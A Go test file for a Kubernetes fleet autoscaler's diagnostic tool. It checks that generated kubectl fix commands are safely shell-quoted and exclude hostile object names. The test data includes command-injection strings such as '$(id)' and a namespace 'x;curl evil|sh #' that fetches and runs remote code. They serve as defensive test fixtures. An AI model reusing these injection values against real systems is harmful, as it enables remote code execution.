// SPDX-License-Identifier: Apache-2.0

package doctor

import (
	"fmt"
	"os/exec"
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/fleetscale/fleetscale/pkg/apis/autoscaling/v1alpha1"
	"github.com/fleetscale/fleetscale/pkg/fleet/fleettest"
)

// A shell reads each argument of a command as the word that it was.
func TestQuoted(t *testing.T) {
	for _, text := range []string{"plain", "", "a b", "it's", "x;exit 1 #", "$(exit 1)",
		"`exit 1`", "a\nb", "/readyz?verbose", `{"a": 'b'}`, `\`, "~", "*"} {
		got, err := exec.CommandContext(t.Context(), "sh", "-c", words("printf %s", nil, []string{text})).Output()
		if err != nil {
			t.Errorf("%q: %v", text, err)
		}
		fleettest.Same(t, "the word", text, string(got))
	}
}

// A member's API server may name objects as no other does. Nothing of that is in a command.
func TestNamesOfMembersInCommands(t *testing.T) {
	p := healthy()
	hpa := func(namespace, name string) metav1.PartialObjectMetadata {
		return metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name,
			Labels: map[string]string{v1alpha1.ManagedByLabel: "gone"}}}
	}
	p.Visited[0].Managed.Value = []metav1.PartialObjectMetadata{hpa("shop", "web.v1"),
		hpa("x;curl evil|sh #", "web"), hpa("shop", "$(id)"), hpa("", "web"),
		hpa("shop", "--all")}
	var v verdict
	leftovers(&v, p)
	var fixes []string
	for _, f := range v.findings {
		fixes = append(fixes, f.Fix)
	}
	const label = v1alpha1.ManagedByLabel
	fleettest.Same(t, "commands", []string{"kubectl --context east -n shop label hpa web.v1 " + label + "-",
		"kubectl --context east get hpa -A -l " + label}, fixes)
	if what := v.findings[1].What; !strings.Contains(what, "4 HorizontalPodAutoscalers with a name") {
		t.Errorf("it says %q", what)
	}
}

// However many a member tells of, some are named.
func TestManyLeftovers(t *testing.T) {
	p := healthy()
	p.Visited[0].Managed.Value = nil
	for i := range mostLeft + 3 {
		p.Visited[0].Managed.Value = append(p.Visited[0].Managed.Value,
			metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Namespace: "shop", Name: fmt.Sprint("web-", i)}})
	}
	var v verdict
	leftovers(&v, p)
	if n := len(v.findings); n != mostLeft+1 || !strings.HasPrefix(v.findings[mostLeft].What, "3 more ") {
		t.Errorf("%d findings, the last is %+v", n, v.findings[n-1])
	}
}
